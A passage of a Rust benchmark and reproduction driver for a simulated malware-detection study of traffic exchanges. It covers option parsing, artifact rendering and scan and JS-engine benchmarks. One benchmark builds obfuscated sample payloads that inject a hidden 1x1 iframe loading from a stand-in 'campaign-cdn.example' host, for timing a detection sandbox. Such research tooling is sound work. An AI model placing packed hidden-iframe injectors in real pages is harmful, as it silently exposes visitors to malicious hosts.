//! rate and verdict-query throughput, written to `BENCH_serve.json`),
//! `chaos` (the seeded chaos storm: daemon kills, checkpoint
//! corruption, harsh storage faults and tenant panics over a
//! multi-tenant service, every survivor's export asserted bit-identical
//! to a fault-free batch run, results merged as a `faults` section into
//! `BENCH_serve.json`) and `serve` (run the resident study daemon:
//! newline-delimited JSON over TCP, `--port 0` picks an ephemeral port
//! printed as `SERVE_ADDR`, `--root DIR` holds per-tenant checkpoints).
//! Options: `--scale <f64>` (crawl scale, default 0.002), `--seed
//! <u64>` (default 2016), `--workers <N>` (scan-phase worker threads,
//! default = available parallelism; `1` forces the serial path),
//! `--fault-profile <name>` (scan under a named fault profile: `none`,
//! `default`, `harsh`), `--crawl-fault-profile <name>` (crawl under a
//! named exchange-fault profile: `none`, `default`, `harsh`),
//! `--disk-fault-profile <name>` (inject checkpoint-storage faults —
//! torn/short writes, bit flips, ENOSPC — on checkpointed runs and in
//! the `serve` daemon: `none`, `default`, `harsh`; artifacts stay
//! bit-identical, only durability work changes),
//! `--checkpoint <dir>` (write crawl checkpoints into `<dir>`),
//! `--checkpoint-every <N>` (surf slots per checkpoint segment,
//! default 256), `--resume <dir>` (resume the crawl from the latest
//! checkpoint in `<dir>`), `--kill-after-round <N>` (abandon a
//! `--checkpoint` run after N checkpoint rounds — a deterministic
//! stand-in for a crash), `--metrics <path>` (dump the study's
//! observability snapshot — `Study::metrics()` — as JSON),
//! `--overlap` (stream crawl chunks straight into the scan phase
//! instead of waiting for the crawl barrier; bit-identical output),
//! `--js-engine <name>` (`vm`, the default compiled-bytecode engine,
//! or `interp`, the tree-walking oracle — scan output is bit-identical
//! either way), `--substrate <name>` (traffic substrate to crawl:
//! `exchange`, the paper's nine traffic exchanges and the default;
//! `adnet`, the low-tier ad-network ecosystem; or `torrent`, the
//! torrent-index ecosystem) and `--quick` (restrict
//! `bench-scan`/`bench-jsvm` to their smallest crawl scale, for CI
//! smoke runs).

use std::path::Path;
use std::sync::OnceLock;

use malware_slums::artifact::{Artifact, ArtifactKind};
use malware_slums::report::Render;
use malware_slums::study::{Study, StudyConfig};
use malware_slums::substrate::Substrate;
use malware_slums::DiskFaultProfile;
use slum_crawler::CrawlFaultProfile;
use slum_detect::fault::FaultProfile;
use slum_js::sandbox::JsEngine;

struct Args {
    artifacts: Vec<String>,
    scale: f64,
    seed: u64,
    workers: usize,
    fault_profile: FaultProfile,
    crawl_fault_profile: CrawlFaultProfile,
    disk_fault_profile: DiskFaultProfile,
    checkpoint: Option<String>,
    checkpoint_every: u64,
    resume: Option<String>,
    kill_after_round: Option<u64>,
    metrics: Option<String>,
    overlap: bool,
    quick: bool,
    js_engine: JsEngine,
    substrate: Substrate,
    port: u16,
    serve_root: Option<String>,
}

fn parse_args() -> Args {
    let mut artifacts = Vec::new();
    let mut scale = 0.002;
    let mut seed = 2016;
    let mut workers = malware_slums::study::default_scan_workers();
    let mut fault_profile = FaultProfile::none();
    let mut crawl_fault_profile = CrawlFaultProfile::none();
    let mut disk_fault_profile = DiskFaultProfile::none();
    let mut checkpoint = None;
    let mut checkpoint_every = 256;
    let mut resume = None;
    let mut kill_after_round = None;
    let mut metrics = None;
    let mut overlap = false;
    let mut quick = false;
    let mut js_engine = JsEngine::default();
    let mut substrate = Substrate::default();
    let mut port = 0u16;
    let mut serve_root = None;
    let mut iter = std::env::args().skip(1);
    while let Some(arg) = iter.next() {
        match arg.as_str() {
            "--scale" => {
                scale = iter
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| die("--scale needs a float"));
            }
            "--seed" => {
                seed = iter
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| die("--seed needs an integer"));
            }
            "--workers" => {
                workers = iter
                    .next()
                    .and_then(|v| v.parse().ok())
                    .filter(|w| *w >= 1)
                    .unwrap_or_else(|| die("--workers needs a positive integer"));
            }
            "--fault-profile" => {
                let name = iter.next().unwrap_or_else(|| die("--fault-profile needs a name"));
                fault_profile = FaultProfile::parse(&name).unwrap_or_else(|| {
                    die(&format!(
                        "unknown fault profile '{name}' (known: {})",
                        FaultProfile::NAMES.join(", ")
                    ))
                });
            }
            "--crawl-fault-profile" => {
                let name =
                    iter.next().unwrap_or_else(|| die("--crawl-fault-profile needs a name"));
                crawl_fault_profile = CrawlFaultProfile::parse(&name).unwrap_or_else(|| {
                    die(&format!(
                        "unknown crawl fault profile '{name}' (known: {})",
                        CrawlFaultProfile::NAMES.join(", ")
                    ))
                });
            }
            "--disk-fault-profile" => {
                let name =
                    iter.next().unwrap_or_else(|| die("--disk-fault-profile needs a name"));
                disk_fault_profile = DiskFaultProfile::parse(&name).unwrap_or_else(|| {
                    die(&format!(
                        "unknown disk fault profile '{name}' (known: {})",
                        DiskFaultProfile::NAMES.join(", ")
                    ))
                });
            }
            "--checkpoint" => {
                checkpoint = Some(iter.next().unwrap_or_else(|| die("--checkpoint needs a dir")));
            }
            "--checkpoint-every" => {
                checkpoint_every = iter
                    .next()
                    .and_then(|v| v.parse().ok())
                    .filter(|n| *n >= 1)
                    .unwrap_or_else(|| die("--checkpoint-every needs a positive integer"));
            }
            "--resume" => {
                resume = Some(iter.next().unwrap_or_else(|| die("--resume needs a dir")));
            }
            "--kill-after-round" => {
                kill_after_round = Some(
                    iter.next()
                        .and_then(|v| v.parse().ok())
                        .filter(|n| *n >= 1)
                        .unwrap_or_else(|| die("--kill-after-round needs a positive integer")),
                );
            }
            "--metrics" => {
                metrics = Some(iter.next().unwrap_or_else(|| die("--metrics needs a path")));
            }
            "--overlap" => overlap = true,
            "--quick" => quick = true,
            "--js-engine" => {
                let name = iter.next().unwrap_or_else(|| die("--js-engine needs a name"));
                js_engine = JsEngine::parse(&name).unwrap_or_else(|| {
                    die(&format!("unknown JS engine '{name}' (known: vm, interp)"))
                });
            }
            "--substrate" => {
                let name = iter.next().unwrap_or_else(|| die("--substrate needs a name"));
                substrate = Substrate::parse(&name).unwrap_or_else(|| {
                    die(&format!(
                        "unknown substrate '{name}' (known: {})",
                        Substrate::NAMES.join(", ")
                    ))
                });
            }
            "--port" => {
                port = iter
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| die("--port needs an integer (0 = ephemeral)"));
            }
            "--root" => {
                serve_root = Some(iter.next().unwrap_or_else(|| die("--root needs a dir")));
            }
            "--help" | "-h" => {
                println!(
                    "usage: repro [artifacts..] [--scale F] [--seed N] [--workers W] \
                     [--fault-profile NAME] [--crawl-fault-profile NAME] \
                     [--disk-fault-profile NAME] [--checkpoint DIR] \
                     [--checkpoint-every N] [--resume DIR] [--kill-after-round N] \
                     [--metrics PATH] [--overlap] [--quick] [--js-engine NAME] \
                     [--substrate NAME] [--port N] [--root DIR]\n\
                     artifacts: all table1 table2 table3 table4 fig2 fig3 fig4 fig5 fig6 fig7 \
                     substrates vetting burst cloaking staleness faultloss crawlloss cases json \
                     bench-scan bench-jsvm bench-serve chaos serve\n\
                     fault profiles: none default harsh (scan, crawl and disk alike; \
                     --disk-fault-profile injects torn/short writes, bit flips and ENOSPC \
                     into checkpoint storage — artifacts stay bit-identical)\n\
                     JS engines: vm (default; compiled bytecode) interp (tree-walking oracle) \
                     — scan output is bit-identical either way\n\
                     substrates: exchange (default; the paper's nine traffic exchanges) \
                     adnet (low-tier ad networks) torrent (torrent indexes)\n\
                     --overlap streams crawl chunks into the scan phase (no barrier); \
                     --quick restricts bench-scan/bench-jsvm/bench-serve/chaos to their \
                     smallest scale\n\
                     chaos: seeded storm of daemon kills, checkpoint corruption, disk \
                     faults and tenant panics; merges a faults section into \
                     BENCH_serve.json\n\
                     serve: run the resident multi-tenant study daemon (newline-delimited \
                     JSON over TCP; --port 0 picks an ephemeral port, printed as \
                     SERVE_ADDR; --root DIR holds per-tenant checkpoints)"
                );
                std::process::exit(0);
            }
            other => artifacts.push(other.to_string()),
        }
    }
    if artifacts.is_empty() {
        artifacts.push("all".to_string());
    }
    if kill_after_round.is_some() && checkpoint.is_none() {
        die("--kill-after-round requires --checkpoint DIR");
    }
    if resume.is_some() && checkpoint.is_some() {
        die("--resume continues writing into its own dir; drop --checkpoint");
    }
    Args {
        artifacts,
        scale,
        seed,
        workers,
        fault_profile,
        crawl_fault_profile,
        disk_fault_profile,
        checkpoint,
        checkpoint_every,
        resume,
        kill_after_round,
        metrics,
        overlap,
        quick,
        js_engine,
        substrate,
        port,
        serve_root,
    }
}

fn die(msg: &str) -> ! {
    eprintln!("repro: {msg}");
    std::process::exit(2);
}

fn main() {
    let args = parse_args();
    // `serve` owns the process: the daemon runs until a shutdown
    // request arrives, no batch artifacts are produced.
    if args.artifacts.iter().any(|a| a == "serve") {
        run_serve(&args);
        return;
    }
    let wants = |name: &str| args.artifacts.iter().any(|a| a == name || a == "all");
    let study_cell: OnceLock<Study> = OnceLock::new();
    let study = || {
        study_cell.get_or_init(|| {
            eprintln!(
                "[repro] running study: substrate={} crawl_scale={} seed={} fault_profile={} \
                 crawl_fault_profile={} ...",
                args.substrate.name(),
                args.scale,
                args.seed,
                args.fault_profile.name,
                args.crawl_fault_profile.name
            );
            let t0 = std::time::Instant::now();
            let mut builder = StudyConfig::builder()
                .seed(args.seed)
                .crawl_scale(args.scale)
                .domain_scale((args.scale * 25.0).clamp(0.03, 1.0))
                .scan_workers(args.workers)
                .overlap_scan(args.overlap)
                .js_engine(args.js_engine)
                .substrate(args.substrate)
                .fault_profile(args.fault_profile.clone())
                .crawl_fault_profile(args.crawl_fault_profile.clone())
                .disk_fault_profile(args.disk_fault_profile.clone());
            if args.checkpoint.is_some() || args.resume.is_some() {
                builder = builder.checkpoint_every(args.checkpoint_every);
            }
            let config = builder
                .build()
                .unwrap_or_else(|e| die(&format!("invalid configuration: {e}")));
            let study = if let Some(dir) = &args.resume {
                eprintln!("[repro] resuming crawl from latest checkpoint in {dir}");
                Study::resume_from(&config, Path::new(dir))
                    .unwrap_or_else(|e| die(&format!("resume failed: {e}")))
            } else if let Some(dir) = &args.checkpoint {
                match args.kill_after_round {
                    Some(rounds) => {
                        match Study::run_to_checkpoint(&config, Path::new(dir), rounds) {
                            Ok(Some(study)) => study,
                            Ok(None) => {
                                eprintln!(
                                    "[repro] crawl killed after {rounds} checkpoint round(s); \
                                     state saved in {dir} (continue with --resume {dir})"
                                );
                                std::process::exit(0);
                            }
                            Err(e) => die(&format!("checkpointed run failed: {e}")),
                        }
                    }
                    None => Study::run_checkpointed(&config, Path::new(dir))
                        .unwrap_or_else(|e| die(&format!("checkpointed run failed: {e}"))),
                }
            } else {
                Study::run(&config)
            };
            eprintln!(
                "[repro] study done: {} visits in {:?}",
                study.store.len(),
                t0.elapsed()
            );
            let snapshot = study.metrics();
            eprintln!(
                "[repro] phases: build {:?}  crawl {:?}  scan {:?} ({} worker(s))\n",
                snapshot.span_duration("phase.build"),
                snapshot.span_duration("phase.crawl"),
                snapshot.span_duration("phase.scan"),
                snapshot.gauge("scan.workers").max(1)
            );
            study
        })
    };

    // Every published table and figure goes through the unified
    // artifact API: one loop, one render call.
    for kind in ArtifactKind::ALL {
        if !wants(kind.name()) {
            continue;
        }
        let mut artifact = study().artifact(kind);
        // Table IV has hundreds of rows at scale; print the paper-sized
        // excerpt.
        if let Artifact::Table4(rows) = &mut artifact {
            rows.truncate(24);
        }
        println!("=== {} ===", kind.title());
        println!("{}", artifact.render());
    }
    if wants("vetting") {
        println!("=== SIII-B: gold-standard tool vetting ===");
        let gold = slum_detect::vetting::build_gold_standard(args.seed, 50);
        for row in slum_detect::vetting::run_vetting(&gold) {
            println!(
                "{:<16} {:>3}/{:<3} = {:>4.0}%   (paper {:>4.0}%){}",
                row.tool.name(),
                row.detected,
                row.total,
                row.accuracy() * 100.0,
                row.tool.paper_accuracy() * 100.0,
                if row.tool.selected() { "  <- selected" } else { "" }
            );
        }
        println!();
    }
    if wants("burst") {
        println!("=== SIV: paid-campaign burst validation ===");
        let mut builder = slum_websim::build::WebBuilder::new(args.seed);
        let dummy = builder.benign_site(Default::default());
        let profile = slum_exchange::params::profile("Cash N Hits").expect("profile");
        let mut exchange = slum_exchange::build_exchange(&mut builder, profile, 0.05, 500_000);
        let mut rng = slum_websim::rng::seeded(args.seed);
        let exp = slum_crawler::burst::run_burst_experiment(
            &mut exchange,
            &dummy.url,
            5,
            100_000,
            &mut rng,
        )
        .expect("fresh account");
        println!("purchased {} visits for ${}", exp.report.purchased, exp.campaign.dollars);
        println!("delivered {} visits (paper: 4,621)", exp.report.delivered);
        println!("unique IPs {} (paper: 2,685)", exp.report.unique_ips);
        println!("span {}s (paper: <1h)\n", exp.report.span_secs);
    }
    if wants("cloaking") {
        println!("=== SIII fn.1: cloaking vs content upload ===");
        let s = study();
        let uploads = s.outcomes.iter().filter(|o| o.needed_content_upload).count();
        let malicious = s.outcomes.iter().filter(|o| o.malicious).count();
        println!(
            "{} of {} malicious URLs were only caught by uploading crawler-captured content\n",
            uploads, malicious
        );
    }
    if args.artifacts.iter().any(|a| a == "json") {
        match malware_slums::export::to_json(study()) {
            Ok(json) => println!("{json}"),
            Err(e) => eprintln!("repro: JSON export failed: {e}"),
        }
    }
    if wants("staleness") {
        println!("=== Blacklist update-lag experiment ===");
        let report = malware_slums::staleness::run_lag_experiment(
            &malware_slums::staleness::LagConfig { seed: args.seed, ..Default::default() },
        );
        println!(
            "fresh-detectable visits: {}   caught through lagged lists: {}   missed: {} ({:.1}%)",
            report.flagged_fresh,
            report.flagged_stale,
            report.missed_by_lag,
            report.miss_fraction() * 100.0
        );
        println!(
            "mean onset-to-consensus lag: {:.1} days\n",
            report.mean_consensus_lag_secs / 86_400.0
        );
    }
    if wants("faultloss") {
        println!("=== Detection loss under service faults ===");
        // `--fault-profile none` (the default) would diff a fault-free
        // run against itself; exercise the moderate profile instead.
        let profile = if args.fault_profile.is_inert() {
            FaultProfile::default_profile()
        } else {
            args.fault_profile.clone()
        };
        let report = malware_slums::faultloss::run_fault_loss_experiment(
            &malware_slums::faultloss::FaultLossConfig {
                seed: args.seed,
                profile,
                ..Default::default()
            },
        );
        println!(
            "profile '{}': {} regular records, {} baseline detections",
            report.profile, report.regular, report.malicious_baseline
        );
        println!(
            "kept under faults: {}   missed: {} ({:.1}%)",
            report.malicious_faulted,
            report.missed_by_faults,
            report.miss_fraction() * 100.0
        );
        println!(
            "degraded verdicts: {}   blacklist-only: {}   unresolved: {}  ({:.1}% non-full)",
            report.degraded_verdicts,
            report.blacklist_only_verdicts,
            report.unresolved_verdicts,
            report.degraded_fraction() * 100.0
        );
        println!(
            "faults injected: {}   retries: {}   virtual backoff: {:.1}s   breaker skips: {}\n",
            report.injected_faults,
            report.retries,
            report.backoff_nanos as f64 / 1e9,
            report.breaker_skips
        );
    }
    if wants("crawlloss") {
        println!("=== Corpus loss under exchange faults ===");
        // As with `faultloss`: an inert profile would diff a fault-free
        // crawl against itself, so substitute the moderate one.
        let profile = if args.crawl_fault_profile.is_inert() {
            CrawlFaultProfile::default_profile()
        } else {
            args.crawl_fault_profile.clone()
        };
        let report = malware_slums::crawlloss::run_crawl_loss_experiment(
            &malware_slums::crawlloss::CrawlLossConfig {
                seed: args.seed,
                profile,
                ..Default::default()
            },
        );
        println!(
            "profile '{}': kept {} of {} planned pages ({:.1}% coverage)",
            report.profile,
            report.pages_faulted,
            report.pages_baseline,
            report.coverage_fraction() * 100.0
        );
        println!(
            "slots lost: {}   permanent shutdowns: {}",
            report.lost_steps, report.shutdowns
        );
        println!(
            "overall malice rate: {:.2}% -> {:.2}%  (bias {:+.2} pp)",
            report.overall_rate_baseline * 100.0,
            report.overall_rate_faulted * 100.0,
            report.overall_bias() * 100.0
        );
        for row in &report.rows {
            println!(
                "  {:<18} kept {:>4}/{:<4}  lost {:>4}  down {:>6}s  rate {:>5.1}% -> {:>5.1}%{}",
                row.exchange,
                row.pages_faulted,
                row.planned_steps,
                row.lost_steps,
                row.downtime_secs,
                row.rate_baseline() * 100.0,
                row.rate_faulted() * 100.0,
                match row.shutdown_at {
                    Some(t) => format!("  (shut down at t={t}s)"),
                    None => String::new(),
                }
            );
        }
        println!();
    }
    if wants("cases") {
        println!("=== SV: case studies ===");
        let s = study();
        let iframes = s.iframe_case_studies();
        let mut by_kind = std::collections::BTreeMap::new();
        for e in &iframes {
            *by_kind.entry(format!("{:?}", e.kind)).or_insert(0u64) += 1;
        }
        println!("iframe injections: {} exhibits {:?}", iframes.len(), by_kind);
        let downloads = s.download_case_studies();
        println!("deceptive downloads: {} exhibits", downloads.len());
        for d in downloads.iter().take(3) {
            println!("  {} -> {:?}", d.url, d.filenames);
        }
        let flash = s.flash_case_studies();
        println!("flash click-jacks: {} exhibits", flash.len());
        for f in flash.iter().take(3) {
            println!("  {} movie={} calls={:?}", f.url, f.movie_name, f.external_calls);
        }
        let fps = s.false_positive_case_studies();
        println!("false positives: {} exhibits", fps.len());
        for fp in fps.iter().take(3) {
            println!("  {} kind={:?} labels={:?}", fp.url, fp.kind, fp.labels);
        }

        // The paper's Code-listing style exhibits.
        let snippets = malware_slums::snippets::collect(&s.web, &s.regular_pairs());
        for snippet in &snippets {
            println!("\n--- {} ({})", snippet.caption, snippet.url);
            for line in snippet.listing.lines().take(12) {
                println!("    {line}");
            }
        }
        println!();
    }
    // Explicitly requested only — timing output is machine-dependent,
    // so it must not pollute the deterministic `all` artifacts.
    if args.artifacts.iter().any(|a| a == "bench-scan") {
        println!("=== Crawl→scan pipeline benchmark ===");
        bench_scan(args.seed, args.quick);
    }
    if args.artifacts.iter().any(|a| a == "bench-jsvm") {
        println!("=== JS bytecode VM benchmark ===");
        bench_jsvm(args.seed, args.quick);
    }
    if args.artifacts.iter().any(|a| a == "bench-serve") {
        println!("=== Multi-tenant study service benchmark ===");
        bench_serve(args.seed, args.quick);
    }
    if args.artifacts.iter().any(|a| a == "chaos") {
        println!("=== Seeded chaos storm over the study service ===");
        bench_chaos(args.seed, args.quick);
    }
    if let Some(path) = &args.metrics {
        let json = study().metrics().to_json();
        match std::fs::write(path, json) {
            Ok(()) => eprintln!("[repro] wrote metrics snapshot to {path}"),
            Err(e) => die(&format!("could not write {path}: {e}")),
        }
    }
}

/// The crawl→scan scaling harness behind `repro bench-scan`.
///
/// For each crawl scale (`--quick` keeps only the smallest) it:
///
/// 1. runs the phase-barrier study end to end (`Study::run_timed`),
/// 2. times a cold serial scan plus chunked parallel scans at 1/2/4/8
///    requested workers over the crawled corpus — requests that the
///    serial-fallback/parallelism clamp resolves to the serial plan
///    reuse the serial measurement, because that *is* the plan the
///    study executes (`serial_fallback: true` in the row),
/// 3. runs the same study with `overlap_scan` (crawl chunks streamed
///    straight into scan workers) and reports the wall-clock saved by
///    removing the barrier,
///
/// checks every variant stays bit-identical to the serial baseline,
/// and writes `BENCH_scanpipe.json`: the legacy top-level
/// `benchmark`/`seed`/`crawl_scale`/`records`/`runs` keys (from the
/// first scale) plus `host.cpus`, scan-chunk parameters, and the
/// per-scale `scales` array.
fn bench_scan(seed: u64, quick: bool) {
    use malware_slums::scanpipe::{
        effective_scan_workers, ScanPipeline, DEFAULT_SCAN_CHUNK, DEFAULT_SERIAL_SCAN_THRESHOLD,
    };

    let scales: &[f64] = if quick { &[0.001] } else { &[0.001, 0.1, 1.0] };
    let cpus = malware_slums::study::default_scan_workers();
    println!("host: {cpus} cpu(s); scales {scales:?}; workers [1, 2, 4, 8]");

    let mut scale_entries: Vec<BenchScale> = Vec::new();
    for &scale in scales {
        let config = || {
            StudyConfig::builder()
                .seed(seed)
                .crawl_scale(scale)
                .domain_scale((scale * 25.0).clamp(0.03, 1.0))
        };
        eprintln!("[bench] crawl_scale {scale}: barrier study ...");
        let (study, barrier) = Study::run_timed(&config().build().expect("bench config"));
        let records = study.store.records();
        let regular = study.regular_mask().iter().filter(|r| **r).count();

        // Scan-only scaling: cold caches for every measurement so rows
        // are comparable; identical outcomes enforced on every variant.
        let pipeline = ScanPipeline::new(&study.web);
        pipeline.clear_caches();
        let t0 = std::time::Instant::now();
        let baseline = pipeline.scan_all(records);
        let serial = t0.elapsed().as_secs_f64();
        println!(
            "scale {scale}: {} records ({regular} regular), serial scan {serial:.3}s \
             ({:.0} records/s)",
            records.len(),
            records.len() as f64 / serial.max(1e-9)
        );

        // Honesty rule: when the serial-fallback clamp collapses a
        // multi-worker request to the serial plan, there is exactly one
        // measurement — re-reporting the same seconds once per request
        // would read as four independent timings. Collapsed requests
        // fold into ONE row marked `duplicates_of: 1` listing the
        // worker counts it covers.
        let mut runs = Vec::new();
        let mut collapsed: Vec<usize> = Vec::new();
        for workers in [1usize, 2, 4, 8] {
            let effective =
                effective_scan_workers(records.len(), workers, DEFAULT_SERIAL_SCAN_THRESHOLD);
            if effective == 1 && workers > 1 {
                // The study would execute the serial plan for this
                // request (small corpus or single-core host); the
                // serial measurement already covers it.
                println!("  {workers} worker(s) -> serial fallback (covered by the 1-worker row)");
                collapsed.push(workers);
                continue;
            }
            let (seconds, fallback) = if effective == 1 {
                (serial, false)
            } else {
                pipeline.clear_caches();
                let t0 = std::time::Instant::now();
                let outcomes =
                    pipeline.scan_all_parallel_chunked(records, effective, DEFAULT_SCAN_CHUNK);
                let elapsed = t0.elapsed().as_secs_f64();
                assert_eq!(outcomes, baseline, "parallel scan must match serial bit-for-bit");
                (elapsed, false)
            };
            let speedup = serial / seconds.max(1e-9);
            println!(
                "  {workers} worker(s) -> {effective} effective: {seconds:.3}s \
                 (speedup {speedup:.2}x{})",
                if fallback { ", serial fallback" } else { "" }
            );
            runs.push(BenchRun {
                workers,
                effective_workers: effective,
                seconds,
                speedup,
                records_per_sec: records.len() as f64 / seconds.max(1e-9),
                serial_fallback: fallback,
                duplicates_of: None,
                covers_workers: Vec::new(),
            });
        }
        if !collapsed.is_empty() {
            let serial_row = &runs[0];
            runs.push(BenchRun {
                workers: collapsed[0],
                effective_workers: 1,
                seconds: serial_row.seconds,
                speedup: serial_row.speedup,
                records_per_sec: serial_row.records_per_sec,
                serial_fallback: true,
                duplicates_of: Some(1),
                covers_workers: collapsed,
            });
        }

        // Pipeline overlap: same study with the barrier removed. The
        // overlapped scan span covers the streamed region, so its total
        // is build + the longer of the two overlapped phases.
        eprintln!("[bench] crawl_scale {scale}: overlapped study ...");
        let (overlap_study, overlap) =
            Study::run_timed(&config().overlap_scan(true).build().expect("bench config"));
        assert_eq!(
            overlap_study.outcomes, study.outcomes,
            "overlapped pipeline must match the barrier run bit-for-bit"
        );
        let barrier_total =
            (barrier.build + barrier.crawl + barrier.scan).as_secs_f64();
        let overlap_total =
            (overlap.build + overlap.crawl.max(overlap.scan)).as_secs_f64();
        let savings = barrier_total - overlap_total;
        println!(
            "  barrier total {barrier_total:.3}s (crawl {:.3}s + scan {:.3}s), \
             overlapped total {overlap_total:.3}s -> {savings:+.3}s saved\n",
            barrier.crawl.as_secs_f64(),
            barrier.scan.as_secs_f64()
        );

        scale_entries.push(BenchScale {
            crawl_scale: scale,
            records: records.len(),
            regular_records: regular,
            crawl_seconds: barrier.crawl.as_secs_f64(),
            scan_seconds: barrier.scan.as_secs_f64(),
            barrier_total_seconds: barrier_total,
            overlap_total_seconds: overlap_total,
            overlap_savings_seconds: savings,
            runs,
        });
    }

    // The first (smallest) scale doubles as the legacy flat schema so
    // existing consumers of BENCH_scanpipe.json keep parsing. Deduped
    // rows re-expand here: the legacy shape promises one entry per
    // requested worker count.
    let first = scale_entries.first().expect("at least one scale ran");
    let doc = BenchDoc {
        benchmark: "scanpipe".to_string(),
        seed,
        crawl_scale: first.crawl_scale,
        records: first.records,
        runs: [1usize, 2, 4, 8]
            .iter()
            .filter_map(|&w| {
                first
                    .runs
                    .iter()
                    .find(|r| r.workers == w || r.covers_workers.contains(&w))
                    .map(|r| LegacyRun {
                        workers: w,
                        executed_workers: r.effective_workers,
                        seconds: r.seconds,
                        speedup: r.speedup,
                        serial_fallback: r.serial_fallback,
                    })
            })
            .collect(),
        host: BenchHost { cpus },
        scan_chunk: DEFAULT_SCAN_CHUNK,
        serial_scan_threshold: DEFAULT_SERIAL_SCAN_THRESHOLD,
        scales: scale_entries,
    };
    let json = format!(
        "{}\n",
        serde_json::to_string_pretty(&doc).expect("bench document serializes")
    );
    match std::fs::write("BENCH_scanpipe.json", &json) {
        Ok(()) => println!("wrote BENCH_scanpipe.json"),
        Err(e) => eprintln!("repro: could not write BENCH_scanpipe.json: {e}"),
    }
}

/// One measured scan run inside `BENCH_scanpipe.json`. A row whose
/// `duplicates_of` is set holds no independent measurement: its timing
/// is the row with that worker count (always the serial row), and
/// `covers_workers` lists every requested count it stands in for.
#[derive(serde::Serialize)]
struct BenchRun {
    workers: usize,
    effective_workers: usize,
    seconds: f64,
    speedup: f64,
    records_per_sec: f64,
    serial_fallback: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    duplicates_of: Option<usize>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    covers_workers: Vec<usize>,
}

/// The JS-engine microbenchmark and scan-phase comparison behind
/// `repro bench-jsvm`, written to `BENCH_jsvm.json`.
///
/// Microbench: a repeated-payload corpus — distinct packed campaign
/// payloads (decoder loops via `obfuscate::pack_layers`), each executed
/// many times, the way one campaign's script shows up across thousands
/// of exchange pages. Three engine configurations run the identical
/// corpus:
///
/// - `tree-walk` — the AST interpreter, per-run parse + walk;
/// - `vm-cold` — bytecode VM without a module store: per-run parse +
///   compile + dispatch (the VM's worst case);
/// - `vm-warm` — bytecode VM with a shared [`JsModuleCache`]: each
///   distinct payload compiles once, every later run starts at cached
///   bytecode (the scan pipeline's configuration).
///
/// Reports are asserted observably identical across all three before
/// any timing is trusted. Scan-phase comparison: the full study at each
/// crawl scale (`--quick` keeps the smallest) under `--js-engine
/// interp` vs `vm`, bit-identical outcomes enforced, scan wall-clock
/// and the `js.vm.*` counters reported.
fn bench_jsvm(seed: u64, quick: bool) {
    use std::sync::Arc;
    use std::time::Instant;

    use slum_detect::JsModuleCache;
    use slum_js::obfuscate::pack_layers;
    use slum_js::sandbox::Sandbox;
    use slum_js::ModuleStore;

    let cpus = malware_slums::study::default_scan_workers();
    let distinct = 12usize;
    let repeats = if quick { 40usize } else { 200 };

    // Distinct campaign payloads: an iframe injector behind 1–3 packer
    // layers, with a small decoder-style loop so execution cost is not
    // pure parse overhead.
    let payloads: Vec<String> = (0..distinct)
        .map(|i| {
            let injector = format!(
                "var n = 0; for (var i = 0; i < 60; i++) {{ n = n + i; }} \
                 document.write('<iframe width=\"1\" height=\"1\" \
                 src=\"http://sink{i}.campaign-cdn.example/drop?k=' + n + '\"></iframe>');"
            );
            pack_layers(&injector, 1 + (i as u32 % 3))
        })
        .collect();
    let executions = (distinct * repeats) as u64;
    println!(
        "microbench: {distinct} distinct payloads x {repeats} repeats \
         = {executions} executions per engine"
    );

    // Round-robin over payloads so warm-cache hits interleave the way
    // campaign pages do in a crawl, rather than running each payload as
    // an isolated burst.
    let run_corpus = |engine: JsEngine, store: Option<&Arc<JsModuleCache>>| -> (f64, Vec<String>) {
        let t0 = Instant::now();
        let mut last_html = Vec::new();
        for round in 0..repeats {
            for payload in &payloads {
                let mut sandbox = Sandbox::new().with_engine(engine);
                if let Some(cache) = store {
                    sandbox =
                        sandbox.with_module_store(Arc::clone(cache) as Arc<dyn ModuleStore>);
                }
                let report = sandbox.run(payload);
                assert!(report.errors.is_empty(), "payload must execute cleanly");
                if round == 0 {
                    last_html.push(report.written_html);
                }
            }
        }
        (t0.elapsed().as_secs_f64(), last_html)
    };

    let (tw_secs, tw_html) = run_corpus(JsEngine::TreeWalk, None);
    let (cold_secs, cold_html) = run_corpus(JsEngine::Vm, None);
    let warm_cache = Arc::new(JsModuleCache::new());
    let (warm_secs, warm_html) = run_corpus(JsEngine::Vm, Some(&warm_cache));
    assert_eq!(cold_html, tw_html, "vm output must match the tree-walk oracle");
    assert_eq!(warm_html, tw_html, "warm-cache vm output must match the tree-walk oracle");

    let per_sec = |secs: f64| executions as f64 / secs.max(1e-9);
    let warm_stats = warm_cache.stats();
    let engines = vec![
        JsEngineRun {
            engine: "tree-walk".to_string(),
            seconds: tw_secs,
            runs_per_sec: per_sec(tw_secs),
            speedup_vs_treewalk: 1.0,
            compiles: None,
            module_hits: None,
            compile_nanos: None,
        },
        JsEngineRun {
            engine: "vm-cold".to_string(),
            seconds: cold_secs,
            runs_per_sec: per_sec(cold_secs),
            speedup_vs_treewalk: tw_secs / cold_secs.max(1e-9),
            compiles: None,
            module_hits: None,
            compile_nanos: None,
        },
        JsEngineRun {
            engine: "vm-warm".to_string(),
            seconds: warm_secs,
            runs_per_sec: per_sec(warm_secs),
            speedup_vs_treewalk: tw_secs / warm_secs.max(1e-9),
            compiles: Some(warm_stats.entries),
            module_hits: Some(warm_stats.hits),
            compile_nanos: Some(warm_cache.total_compile_nanos()),
        },
    ];
    for run in &engines {
        println!(
            "  {:<10} {:>8.3}s  {:>10.0} runs/s  ({:.2}x tree-walk)",
            run.engine, run.seconds, run.runs_per_sec, run.speedup_vs_treewalk
        );
    }
    let warm_speedup = tw_secs / warm_secs.max(1e-9);
    println!(
        "  warm cache: {} compiles served {} warm hits\n",
        warm_stats.entries, warm_stats.hits
    );

    // Scan-phase comparison: the same seeded study under each engine.
    let scales: &[f64] = if quick { &[0.001] } else { &[0.001, 0.1, 1.0] };
    let mut scale_entries: Vec<JsVmScale> = Vec::new();
    for &scale in scales {
        let config = |engine: JsEngine| {
            StudyConfig::builder()
                .seed(seed)
                .crawl_scale(scale)
                .domain_scale((scale * 25.0).clamp(0.03, 1.0))
                .js_engine(engine)
                .build()
                .expect("bench config")
        };
        eprintln!("[bench] crawl_scale {scale}: tree-walk study ...");
